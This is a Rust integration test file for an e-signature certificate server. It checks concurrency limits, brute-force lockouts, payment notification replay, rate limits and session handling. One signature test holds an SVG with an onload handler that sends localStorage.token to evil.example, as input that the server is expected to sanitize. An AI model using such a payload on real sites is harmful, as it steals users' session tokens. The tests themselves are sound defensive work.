//! Tried as an attacker would: parallel requests, replays, bursts, stale sessions. Every rule
//! that counts or moves state must hold when the requests really run at once (these tests run
//! on the multi-thread runtime and release their requests together through a barrier).

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use async_trait::async_trait;
use axum::http::StatusCode;
use cloudsign_contract::real_name::LivenessChallenge;
use cloudsign_server::providers::{
    CertificateAuthority, CertificateRequest, InvoiceProvider, InvoiceRequest, IssuedCertificate,
    IssuedInvoice,
};
use cloudsign_server::sandbox::real_name::FACE_MISMATCH_MARK;
use common::{
    PASSWORD, PHONE, TestServer, at_real_name, b64, challenge, client, count, enrolled, error,
    json_request, paid, pay_at_wechat, png, prepay, reset_started, seal_session, upload_both,
    with_order,
};
use serde_json::{Value, json};

/// Counts what the wrapped CA issues.
struct CountingCa {
    inner: Arc<dyn CertificateAuthority>,
    issued: Arc<AtomicUsize>,
}

#[async_trait]
impl CertificateAuthority for CountingCa {
    async fn issue(&self, request: CertificateRequest<'_>) -> anyhow::Result<IssuedCertificate> {
        self.issued.fetch_add(1, Ordering::SeqCst);
        self.inner.issue(request).await
    }
}

fn count_certificates(server: &mut TestServer) -> Arc<AtomicUsize> {
    let issued = Arc::new(AtomicUsize::new(0));
    server.state.ca = Arc::new(CountingCa {
        inner: server.state.ca.clone(),
        issued: issued.clone(),
    });
    issued
}

struct CountingInvoices {
    inner: Arc<dyn InvoiceProvider>,
    issued: Arc<AtomicUsize>,
}

#[async_trait]
impl InvoiceProvider for CountingInvoices {
    async fn issue(&self, request: InvoiceRequest<'_>) -> anyhow::Result<IssuedInvoice> {
        self.issued.fetch_add(1, Ordering::SeqCst);
        // Slow, as a real platform is: parallel requests overlap.
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        self.inner.issue(request).await
    }
}

/// Frames for every prompt, each carrying `mark` (the sandbox's rule for someone else's face).
fn marked_frames(challenge: &LivenessChallenge, mark: &[u8]) -> Value {
    let frames: Vec<Value> = challenge
        .prompts
        .iter()
        .map(|prompt| {
            let images: Vec<String> = (0..4)
                .map(|i| {
                    let mut image = png(320 + i, 240);
                    image.extend_from_slice(mark);
                    b64(&image)
                })
                .collect();
            json!({"prompt": prompt, "images": images})
        })
        .collect();
    json!({"challenge_id": challenge.challenge_id, "frames": frames})
}

fn login_body(password: &str) -> Value {
    json!({"org_id": "huizhou", "phone": PHONE, "password": password})
}

fn tries_left(answers: &[(StatusCode, Value)]) -> Vec<u32> {
    let mut left: Vec<u32> = answers
        .iter()
        .filter_map(|(_, body)| body["message"].as_str())
        .filter_map(|message| {
            let digits: String = message
                .split("再试")
                .nth(1)
                .or_else(|| message.split("尝试").nth(1))?
                .chars()
                .take_while(char::is_ascii_digit)
                .collect();
            digits.parse().ok()
        })
        .collect();
    left.sort_unstable();
    left
}

// ---- identity bound to the face ----

#[tokio::test]
async fn the_face_must_be_the_persons_and_the_photos_go_once_the_verdict_is_kept() {
    let server = TestServer::start().await;
    let id = at_real_name(&server, "张三").await;
    upload_both(&server, &id).await;
    let uploads = server.state.config.data_dir.join("uploads").join(&id);
    assert!(uploads.exists());

    let liveness = format!("/api/registrations/{id}/liveness");
    let first = challenge(&server, &id).await;
    let (status, body) = server
        .post_json(&liveness, marked_frames(&first, FACE_MISMATCH_MARK))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        error(body).code,
        cloudsign_contract::ErrorCode::FaceMismatch
    );
    let (_, state) = server.get_json(&format!("/api/registrations/{id}")).await;
    assert_eq!(
        state["step"], "real_name",
        "no payment for someone else's face"
    );
    assert!(uploads.exists(), "the photos stay for the retry");

    let second = challenge(&server, &id).await;
    let (status, body) = server
        .post_json(&liveness, marked_frames(&second, b"the person"))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["step"], "payment");
    assert!(
        !uploads.exists(),
        "ID card photos are deleted once the verdict is stored"
    );
    let verdicts = server
        .state
        .store
        .identity_verdicts("registration", &id)
        .await
        .unwrap();
    let kept: Vec<&str> = verdicts.iter().map(|(v, _, _)| v.as_str()).collect();
    assert_eq!(kept, ["face_mismatch", "match"]);
    let (_, face_hash, portrait_hash) = &verdicts[1];
    assert_eq!(face_hash.len(), 64, "the face is kept as a hash only");
    assert_eq!(portrait_hash.as_deref().map(str::len), Some(64));
}

#[tokio::test]
async fn a_name_that_does_not_belong_to_the_number_is_refused() {
    let server = TestServer::start().await;
    let id = at_real_name(&server, "李不一致").await;
    upload_both(&server, &id).await;
    let challenge = challenge(&server, &id).await;
    let (status, body) = server
        .post_json(
            &format!("/api/registrations/{id}/liveness"),
            marked_frames(&challenge, b""),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        error(body).code,
        cloudsign_contract::ErrorCode::RealNameMismatch
    );
}

#[tokio::test]
async fn a_reset_compares_the_face_with_the_registered_person_before_revoking_anything() {
    let server = TestServer::start().await;
    let token = enrolled(&server).await;
    let (_, before) = server
        .authorized("GET", "/api/me/certificate", &token, None)
        .await;
    let (reset_id, prompts) = reset_started(&server).await;

    // A live face, but not the registered person's: nothing is revoked, no password can be set.
    let (status, body) = server
        .post_json(
            &format!("/api/password-reset/{reset_id}/liveness"),
            marked_frames(&prompts, FACE_MISMATCH_MARK),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        error(body).code,
        cloudsign_contract::ErrorCode::FaceMismatch
    );
    let (status, _) = server
        .put_json(
            &format!("/api/password-reset/{reset_id}/password"),
            json!({"password": "Reset2026ok", "confirm": "Reset2026ok"}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    let serial = before["serial"].as_str().unwrap();
    assert_eq!(
        server
            .state
            .store
            .certificate_status(serial)
            .await
            .unwrap()
            .as_deref(),
        Some("valid")
    );
    let verdicts = server
        .state
        .store
        .identity_verdicts("password_reset", &reset_id)
        .await
        .unwrap();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, "face_mismatch");
}

// ---- no check-then-act ----

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn thirty_guesses_at_once_get_five_password_checks() {
    let server = TestServer::start().await;
    enrolled(&server).await;
    let checks_before = server.state.hashing.completed();
    let guesses = (0..30)
        .map(|i| {
            json_request(
                "POST",
                "/api/auth/login",
                &login_body(&format!("Wrong{i:04}x")),
                None,
            )
        })
        .collect();
    let answers = server.parallel(guesses).await;

    assert_eq!(
        server.state.hashing.completed() - checks_before,
        5,
        "only five guesses may be checked"
    );
    assert_eq!(count(&answers, StatusCode::FORBIDDEN), 4, "{answers:?}");
    assert_eq!(count(&answers, StatusCode::LOCKED), 26);
    assert_eq!(tries_left(&answers), [1, 2, 3, 4]);
    // Locked: even the right password is refused now.
    let (status, _) = server
        .post_json("/api/auth/login", login_body(PASSWORD))
        .await;
    assert_eq!(status, StatusCode::LOCKED);
    server.clock.advance(30 * 60);
    let (status, _) = server
        .post_json("/api/auth/login", login_body(PASSWORD))
        .await;
    assert_eq!(status, StatusCode::OK, "the lock ends after thirty minutes");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_full_argon2_queue_answers_busy_without_costing_a_try() {
    let server = TestServer::with_config(|config| {
        config.hashing_workers = 1;
        config.hashing_queue = 1;
    })
    .await;
    enrolled(&server).await;
    let guesses = (0..12)
        .map(|i| {
            json_request(
                "POST",
                "/api/auth/login",
                &login_body(&format!("Wrong{i:04}x")),
                None,
            )
        })
        .collect();
    let answers = server.parallel(guesses).await;
    let busy = count(&answers, StatusCode::SERVICE_UNAVAILABLE);
    assert!(busy > 0, "{answers:?}");
    assert!(
        answers
            .iter()
            .all(|(status, _)| !status.is_server_error()
                || *status == StatusCode::SERVICE_UNAVAILABLE)
    );
    for (status, body) in &answers {
        if *status == StatusCode::SERVICE_UNAVAILABLE {
            assert_eq!(body["code"], "busy");
            assert_eq!(body["message"], "当前使用人数较多，请稍后再试");
        }
    }
    // Only the checked guesses counted: the next wrong one says how many are left.
    let checked = 12 - busy;
    let (status, body) = server
        .post_json("/api/auth/login", login_body("Wrong9999x"))
        .await;
    if checked + 1 < 5 {
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert_eq!(tries_left(&[(status, body)]), [4 - checked as u32]);
    } else {
        assert_eq!(status, StatusCode::LOCKED, "{body}");
    }
}

#[tokio::test]
async fn a_busy_answer_says_when_to_retry() {
    let mut server = TestServer::start().await;
    enrolled(&server).await;
    server.state.hashing = cloudsign_server::services::hashing::HashingQueue::new(1, 0);
    let _held = server.state.hashing.admit().unwrap();
    let response = tower::ServiceExt::oneshot(
        server.router(),
        json_request("POST", "/api/auth/login", &login_body(PASSWORD), None),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(response.headers()["retry-after"], "1");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn twenty_sends_at_once_send_one_message() {
    let server = TestServer::start().await;
    let sends = (0..20)
        .map(|_| {
            json_request(
                "POST",
                "/api/sms/send",
                &json!({"phone": PHONE, "purpose": "register"}),
                None,
            )
        })
        .collect();
    let answers = server.parallel(sends).await;
    assert_eq!(count(&answers, StatusCode::OK), 1, "{answers:?}");
    assert_eq!(count(&answers, StatusCode::TOO_MANY_REQUESTS), 19);
    let (_, outbox) = server
        .get_json(&format!("/sandbox/sms?phone={PHONE}"))
        .await;
    assert_eq!(outbox.as_array().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn twenty_code_guesses_at_once_get_five_tries() {
    let server = TestServer::start().await;
    let code = common::register_code(&server, PHONE).await;
    let wrong = format!("{:06}", (code.parse::<u32>().unwrap() + 1) % 1_000_000);
    let form = |sms_code: &str| {
        json!({"org_id": "huizhou", "role": "bidder", "unit_name": "惠州市某公司", "name": "张三",
               "phone": PHONE, "sms_code": sms_code, "agreed": true})
    };
    let guesses = (0..20)
        .map(|_| json_request("POST", "/api/registrations", &form(&wrong), None))
        .collect();
    let answers = server.parallel(guesses).await;
    assert_eq!(count(&answers, StatusCode::BAD_REQUEST), 20, "{answers:?}");
    // Five guesses were compared (4, 3, 2, 1 tries left, then none); the rest found it void.
    assert_eq!(tries_left(&answers), [1, 2, 3, 4]);
    let (status, body) = server.post_json("/api/registrations", form(&code)).await;
    assert_eq!(
        status,
        StatusCode::BAD_REQUEST,
        "the right code comes too late: {body}"
    );
}

#[tokio::test]
async fn registering_again_resumes_a_paid_registration_at_the_password() {
    let server = TestServer::start().await;
    let id = paid(&server).await;
    let code = common::register_code(&server, PHONE).await;
    let (status, state) = server
        .post_json(
            "/api/registrations",
            json!({"org_id": "huizhou", "role": "agency", "unit_name": "别的公司", "name": "李四",
                   "phone": PHONE, "sms_code": code, "agreed": true}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{state}");
    assert_eq!(state["id"], id.as_str(), "the same registration");
    assert_eq!(
        state["step"], "password",
        "never back to 确认信息 after paying"
    );
    assert_eq!(state["name"], "张三", "the verified name stays");
    let (status, _) = server
        .put_json(
            &format!("/api/registrations/{id}/identity"),
            json!({"id_number": "11010519491231002X"}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
}

#[tokio::test]
async fn a_registration_changed_during_the_real_name_check_does_not_move_on() {
    // The provider answers "match" for the name it saw, but meanwhile the form is sent again
    // with another name: the step change must see that and refuse.
    struct ChangesTheName {
        inner: Arc<dyn cloudsign_server::providers::RealNameProvider>,
        state: std::sync::Mutex<Option<(cloudsign_server::store::Store, String)>>,
    }
    #[async_trait]
    impl cloudsign_server::providers::RealNameProvider for ChangesTheName {
        async fn verify(
            &self,
            identity: cloudsign_server::providers::IdentityToCheck<'_>,
        ) -> anyhow::Result<cloudsign_server::providers::IdentityVerdict> {
            let meddle = self.state.lock().unwrap().take();
            if let Some((store, id)) = meddle {
                let form = cloudsign_contract::registration::ValidRegistrationForm::check(
                    &serde_json::from_value(json!({"org_id": "huizhou", "role": "bidder",
                        "unit_name": "惠州市某公司", "name": "王五", "phone": PHONE,
                        "sms_code": "123456", "agreed": true}))
                    .unwrap(),
                )
                .unwrap();
                store.restart_registration(&id, &form, 0).await?;
            }
            self.inner.verify(identity).await
        }
    }
    let mut server = TestServer::start().await;
    let id = at_real_name(&server, "张三").await;
    upload_both(&server, &id).await;
    server.state.real_name = Arc::new(ChangesTheName {
        inner: server.state.real_name.clone(),
        state: std::sync::Mutex::new(Some((server.state.store.clone(), id.clone()))),
    });
    let challenge = challenge(&server, &id).await;
    let (status, body) = server
        .post_json(
            &format!("/api/registrations/{id}/liveness"),
            marked_frames(&challenge, b""),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    let (_, state) = server.get_json(&format!("/api/registrations/{id}")).await;
    assert_eq!(state["step"], "identity");
    assert_eq!(state["name"], "王五");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn five_password_settings_at_once_issue_one_certificate() {
    let mut server = TestServer::start().await;
    let issued = count_certificates(&mut server);
    let id = paid(&server).await;
    let body = json!({"password": PASSWORD, "confirm": PASSWORD});
    let requests = (0..5)
        .map(|_| {
            json_request(
                "PUT",
                &format!("/api/registrations/{id}/password"),
                &body,
                None,
            )
        })
        .collect();
    let answers = server.parallel(requests).await;
    assert_eq!(count(&answers, StatusCode::OK), 1, "{answers:?}");
    assert_eq!(count(&answers, StatusCode::CONFLICT), 4);
    assert_eq!(issued.load(Ordering::SeqCst), 1, "the CA was asked once");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ten_invoice_requests_at_once_issue_one_invoice() {
    let mut server = TestServer::start().await;
    let issued = Arc::new(AtomicUsize::new(0));
    server.state.invoices = Arc::new(CountingInvoices {
        inner: server.state.invoices.clone(),
        issued: issued.clone(),
    });
    let token = enrolled(&server).await;
    let (_, orders) = server
        .authorized("GET", "/api/me/orders", &token, None)
        .await;
    let order_no = orders["orders"][0]["order_no"].as_str().unwrap().to_owned();
    let body = json!({"title": "惠州市某公司", "tax_number": "91110000802100433B", "email": "bid@example.com"});
    let requests = (0..10)
        .map(|_| {
            let mut request = json_request(
                "POST",
                &format!("/api/me/orders/{order_no}/invoice"),
                &body,
                None,
            );
            request
                .headers_mut()
                .insert("authorization", format!("Bearer {token}").parse().unwrap());
            request
        })
        .collect();
    let answers = server.parallel(requests).await;
    assert_eq!(
        issued.load(Ordering::SeqCst),
        1,
        "the platform was asked once: {answers:?}"
    );
    let numbers: std::collections::BTreeSet<&str> = answers
        .iter()
        .filter_map(|(_, body)| body["invoice_no"].as_str())
        .collect();
    assert_eq!(numbers.len(), 1, "{answers:?}");
    assert!(
        answers
            .iter()
            .all(|(status, _)| *status == StatusCode::OK || *status == StatusCode::CONFLICT)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn invoice_numbers_issued_at_once_never_collide() {
    let server = TestServer::start().await;
    let tasks: Vec<_> = (0..10)
        .map(|i| {
            let invoices = server.state.invoices.clone();
            tokio::spawn(async move {
                invoices
                    .issue(InvoiceRequest {
                        order_no: &format!("order-{i}"),
                        title: "惠州市某公司",
                        tax_number: "91110000802100433B",
                        item: "个人移动证书",
                        amount_fen: 13_000,
                        issued_at: 1_800_000_000,
                    })
                    .await
                    .unwrap()
                    .invoice_no
            })
        })
        .collect();
    let mut numbers = std::collections::BTreeSet::new();
    for task in tasks {
        numbers.insert(task.await.unwrap());
    }
    assert_eq!(numbers.len(), 10);
}

// ---- payment truth is WeChat's ----

#[tokio::test]
async fn cancelling_an_order_wechat_already_took_the_money_for_pays_it() {
    let server = TestServer::start().await;
    let (id, order_no) = with_order(&server).await;
    let prepay_id = prepay(&server, &id).await;
    assert!(pay_at_wechat(&server, &prepay_id).await);

    let (status, body) = server
        .post_json(&format!("/api/registrations/{id}/order/cancel"), json!({}))
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["message"], "订单已支付，无法取消");
    let order = server
        .state
        .store
        .find_order(&order_no)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(order.status, "paid");
    let (_, state) = server.get_json(&format!("/api/registrations/{id}")).await;
    assert_eq!(state["step"], "password");
}

#[tokio::test]
async fn the_sweeper_closes_at_wechat_first_and_keeps_a_payment_it_finds() {
    let server = TestServer::start().await;
    let (paid_id, paid_order) = with_order(&server).await;
    let prepay_id = prepay(&server, &paid_id).await;
    assert!(pay_at_wechat(&server, &prepay_id).await);
    server.clock.advance(601);

    let looked_at = cloudsign_server::services::orders::close_expired(&server.state)
        .await
        .unwrap();
    assert_eq!(looked_at, 1);
    let order = server
        .state
        .store
        .find_order(&paid_order)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(order.status, "paid", "the money WeChat took is not lost");
}

#[tokio::test]
async fn an_expired_order_closes_at_wechat_so_its_cashier_can_no_longer_pay() {
    let server = TestServer::start().await;
    let (id, order_no) = with_order(&server).await;
    let prepay_id = prepay(&server, &id).await;
    server.clock.advance(601);
    let (_, order) = server
        .get_json(&format!("/api/registrations/{id}/order"))
        .await;
    assert_eq!(order["status"], "closed");
    let now = server.state.clock.now();
    assert!(
        !server
            .state
            .store
            .pay_sandbox_prepay(&prepay_id, "4200000043", now)
            .await
            .unwrap(),
        "closed at WeChat"
    );
    let order = server
        .state
        .store
        .find_order(&order_no)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(order.status, "closed");
}

#[tokio::test]
async fn a_late_notification_is_honoured_when_wechat_confirms_it() {
    use cloudsign_server::domain::orders::CloseReason;
    use cloudsign_server::providers::PaidTransaction;
    use cloudsign_server::sandbox::wxpay::signed_notification;
    let server = TestServer::start().await;
    let (id, order_no) = with_order(&server).await;
    let prepay_id = prepay(&server, &id).await;
    // The person paid; before the notification came, the order was closed here alone.
    assert!(pay_at_wechat(&server, &prepay_id).await);
    let now = server.state.clock.now();
    server
        .state
        .store
        .close_order_if_unpaid(&order_no, CloseReason::Expired, now)
        .await
        .unwrap();
    let transaction = PaidTransaction {
        order_no: order_no.clone(),
        transaction_id: "4200000042".into(),
        amount_fen: 13_000,
    };
    let (headers, body) = signed_notification(&transaction, now);
    assert_eq!(notify(&server, &headers, body).await, StatusCode::OK);
    let order = server
        .state
        .store
        .find_order(&order_no)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(order.status, "paid");
    let (_, state) = server.get_json(&format!("/api/registrations/{id}")).await;
    assert_eq!(state["step"], "password");
}

#[tokio::test]
async fn a_replayed_notification_with_a_stale_timestamp_is_refused() {
    use cloudsign_server::providers::PaidTransaction;
    use cloudsign_server::sandbox::wxpay::signed_notification;
    let server = TestServer::start().await;
    let (_, order_no) = with_order(&server).await;
    let transaction = PaidTransaction {
        order_no: order_no.clone(),
        transaction_id: "4200000044".into(),
        amount_fen: 13_000,
    };
    let signed_long_ago = server.state.clock.now() - 6 * 60;
    let (headers, body) = signed_notification(&transaction, signed_long_ago);
    assert_eq!(
        notify(&server, &headers, body).await,
        StatusCode::UNAUTHORIZED
    );
    let order = server
        .state
        .store
        .find_order(&order_no)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(order.status, "unpaid");
}

async fn notify(server: &TestServer, headers: &[(&str, String)], body: String) -> StatusCode {
    let mut request =
        axum::http::Request::post("/api/pay/notify").header("content-type", "application/json");
    for (name, value) in headers {
        request = request.header(*name, value);
    }
    tower::ServiceExt::oneshot(
        server.router(),
        request.body(axum::body::Body::from(body)).unwrap(),
    )
    .await
    .unwrap()
    .status()
}

// ---- sessions ----

#[tokio::test]
async fn changing_the_password_ends_the_other_sessions_and_a_reset_ends_all() {
    let server = TestServer::start().await;
    let first = enrolled(&server).await;
    let (_, login) = server
        .post_json("/api/auth/login", login_body(PASSWORD))
        .await;
    let second = login["token"].as_str().unwrap().to_owned();
    let (_, login) = server
        .post_json("/api/auth/login", login_body(PASSWORD))
        .await;
    let third = login["token"].as_str().unwrap().to_owned();

    let (status, _) = server
        .authorized(
            "PUT",
            "/api/me/password",
            &second,
            Some(json!({"old_password": PASSWORD, "new_password": "Changed2026", "confirm": "Changed2026"})),
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    for (token, alive) in [(&first, false), (&second, true), (&third, false)] {
        let (status, _) = server.authorized("GET", "/api/me", token, None).await;
        assert_eq!(status == StatusCode::OK, alive, "{token}");
    }

    // 重置签署密码 (the face checked) ends every session, the one it opens aside.
    let (reset_id, prompts) = reset_started(&server).await;
    let (status, _) = one(
        &server,
        &format!("/api/password-reset/{reset_id}/liveness"),
        marked_frames(&prompts, b""),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, session) = server
        .put_json(
            &format!("/api/password-reset/{reset_id}/password"),
            json!({"password": "Reset2026ok", "confirm": "Reset2026ok"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{session}");
    let (status, _) = server.authorized("GET", "/api/me", &second, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let fresh = session["token"].as_str().unwrap();
    let (status, _) = server.authorized("GET", "/api/me", fresh, None).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = server
        .authorized("DELETE", "/api/session", fresh, None)
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = server.authorized("GET", "/api/me", fresh, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

// ---- abuse limits ----

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_burst_of_lookups_from_one_address_meets_the_limit() {
    let server = TestServer::start().await;
    let lookup = |phone: String| json!({"org_id": "huizhou", "phone": phone});
    let burst = (0..40)
        .map(|i| {
            json_request(
                "POST",
                "/api/auth/lookup",
                &lookup(format!("1380013{i:04}")),
                client(7),
            )
        })
        .collect();
    let answers = server.parallel(burst).await;
    let limited = count(&answers, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(limited, 10, "30 a minute from one address");
    assert_eq!(
        count(&answers, StatusCode::NOT_FOUND),
        30,
        "not registered, answered"
    );
    let refused = answers
        .iter()
        .find(|(status, _)| *status == StatusCode::TOO_MANY_REQUESTS)
        .unwrap();
    let message = refused.1["message"].as_str().unwrap();
    assert!(
        message.starts_with("操作过于频繁，请") && message.ends_with("秒后再试"),
        "{message}"
    );
    assert!(answers.iter().all(|(status, _)| !status.is_server_error()));

    // Another address is not held back by this one; the next window starts afresh.
    let (status, _) = one(&server, "/api/auth/lookup", lookup(PHONE.into()), client(8)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    server.clock.advance(60);
    let (status, _) = one(&server, "/api/auth/lookup", lookup(PHONE.into()), client(7)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_global_limit_holds_across_addresses_and_sms_login_register_reset_are_limited() {
    let mut server = TestServer::start().await;
    use cloudsign_server::domain::rate_limit::Limit;
    let small = Limit {
        per_address: 2,
        global: 3,
    };
    server.state.rate_limits.sms_send = small;
    server.state.rate_limits.login = small;
    server.state.rate_limits.register = small;
    server.state.rate_limits.password_reset = small;
    type BodyOf = fn(usize) -> Value;
    let bodies: [(&str, BodyOf); 4] = [
        // A phone each: the per-phone SMS rule is not what is tested here.
        (
            "/api/sms/send",
            |i| json!({"phone": format!("1380013800{i}"), "purpose": "register"}),
        ),
        ("/api/auth/login", |_| login_body("Wrong0000x")),
        ("/api/registrations", |_| {
            json!({"org_id": "huizhou", "role": "bidder", "unit_name": "惠州市某公司", "name": "张三",
                   "phone": PHONE, "sms_code": "000000", "agreed": true})
        }),
        (
            "/api/password-reset",
            |_| json!({"org_id": "huizhou", "phone": PHONE, "sms_code": "000000"}),
        ),
    ];
    for (path, body) in bodies {
        let mut statuses = Vec::new();
        for (i, address) in [client(1), client(1), client(1), client(2), client(3)]
            .into_iter()
            .enumerate()
        {
            statuses.push(one(&server, path, body(i), address).await.0);
        }
        let limited: Vec<bool> = statuses
            .iter()
            .map(|status| *status == StatusCode::TOO_MANY_REQUESTS)
            .collect();
        // Two from the first address, the third refused; one more from the second address
        // reaches the global three; the third address is refused by the global limit.
        assert_eq!(
            limited,
            [false, false, true, false, true],
            "{path}: {statuses:?}"
        );
    }
}

#[tokio::test]
async fn forwarded_addresses_count_only_behind_a_trusted_proxy() {
    let mut server = TestServer::with_config(|config| config.trust_forwarded_for = true).await;
    server.state.rate_limits.lookup.per_address = 1;
    let lookup = json!({"org_id": "huizhou", "phone": PHONE});
    let behind_proxy = |forwarded: &str| {
        let mut request = json_request("POST", "/api/auth/lookup", &lookup, client(9));
        request
            .headers_mut()
            .insert("x-forwarded-for", forwarded.parse().unwrap());
        request
    };
    let answers = server
        .parallel(vec![
            behind_proxy("198.51.100.1"),
            behind_proxy("6.6.6.6, 198.51.100.2"),
            behind_proxy("7.7.7.7, 198.51.100.2"),
        ])
        .await;
    // The proxy's own (last) entry counts, not what the client wrote before it.
    assert_eq!(
        count(&answers, StatusCode::TOO_MANY_REQUESTS),
        1,
        "{answers:?}"
    );
}

async fn one(
    server: &TestServer,
    path: &str,
    body: Value,
    from: Option<std::net::SocketAddr>,
) -> (StatusCode, Value) {
    server
        .parallel(vec![json_request("POST", path, &body, from)])
        .await
        .remove(0)
}

// ---- smaller things that matter ----

#[tokio::test]
async fn an_added_unit_never_enters_a_certificate_and_its_seal_says_so() {
    let server = TestServer::start().await;
    let token = enrolled(&server).await;
    let (status, units) = server
        .authorized(
            "POST",
            "/api/me/units",
            &token,
            Some(json!({"name": "自称的集团公司", "role": "bidder"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{units}");
    let added = units["units"]
        .as_array()
        .unwrap()
        .iter()
        .find(|unit| unit["name"] == "自称的集团公司")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (status, _) = server
        .authorized(
            "PUT",
            &format!("/api/me/units/{added}/current"),
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);

    let (_, signing_token) = seal_session(&server, "unit").await;
    let (status, request) = server
        .authorized(
            "GET",
            &format!("/api/signing/{signing_token}"),
            &token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{request}");
    assert_eq!(request["unit_name"], "自称的集团公司");
    assert_eq!(request["unit_verified"], false);

    // A reset issues a new certificate: its subject keeps the registered unit.
    let (reset_id, prompts) = reset_started(&server).await;
    let (status, _) = one(
        &server,
        &format!("/api/password-reset/{reset_id}/liveness"),
        marked_frames(&prompts, b""),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, session) = server
        .put_json(
            &format!("/api/password-reset/{reset_id}/password"),
            json!({"password": "Reset2026ok", "confirm": "Reset2026ok"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{session}");
    let user = server
        .state
        .store
        .find_user(
            "huizhou",
            &cloudsign_contract::rules::Phone::parse(PHONE).unwrap(),
        )
        .await
        .unwrap()
        .unwrap();
    let certificate = server
        .state
        .store
        .valid_certificate(user.id)
        .await
        .unwrap()
        .unwrap();
    let der = &certificate.cert_der;
    let has = |text: &str| der.windows(text.len()).any(|w| w == text.as_bytes());
    assert!(has("惠州市某公司"), "the registered unit");
    assert!(!has("自称的集团公司"), "never the added one");
}

#[tokio::test]
async fn a_signature_svg_keeps_only_what_draws() {
    let server = TestServer::start().await;
    let token = enrolled(&server).await;
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend_from_slice(&600u32.to_be_bytes());
    png.extend_from_slice(&240u32.to_be_bytes());
    png.extend_from_slice(&[8, 6, 0, 0, 0, 0, 0, 0, 0]);
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"240\"\nonload=\"fetch('//evil.example/'+localStorage.token)\"><path fill=\"#111\" d=\"M0 0L1 1Z\"/></svg>";
    let (status, saved) = server
        .authorized(
            "PUT",
            "/api/me/signature",
            &token,
            Some(json!({"png": b64(&png), "svg": svg})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{saved}");
    let stored = saved["svg"].as_str().unwrap();
    assert!(
        !stored.contains("onload") && !stored.contains("evil"),
        "{stored}"
    );
    assert!(stored.contains(r#"d="M0 0L1 1Z""#));
}

#[tokio::test]
async fn pages_and_answers_carry_the_security_headers() {
    let server = TestServer::start().await;
    let (_, headers, _) = server.get("/login").await;
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.contains("script-src 'self' 'wasm-unsafe-eval'"),
        "{policy}"
    );
    assert!(policy.contains("connect-src 'self'"));
    assert!(policy.contains("object-src 'none'"));
    assert!(!policy.contains("'unsafe-eval'"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(
        headers["referrer-policy"],
        "strict-origin-when-cross-origin"
    );
    assert!(
        headers["permissions-policy"]
            .to_str()
            .unwrap()
            .contains("camera=(self)")
    );

    let (_, headers, _) = server.get("/api/health").await;
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(
        headers["content-security-policy"],
        "default-src 'none'; frame-ancestors 'none'"
    );

    let (status, _) = one(
        &server,
        "/api/csp-report",
        json!({"csp-report": {"blocked-uri": "inline"}}),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (_, reports) = server.get_json("/sandbox/csp-reports").await;
    assert_eq!(reports.as_array().unwrap().len(), 1);
}
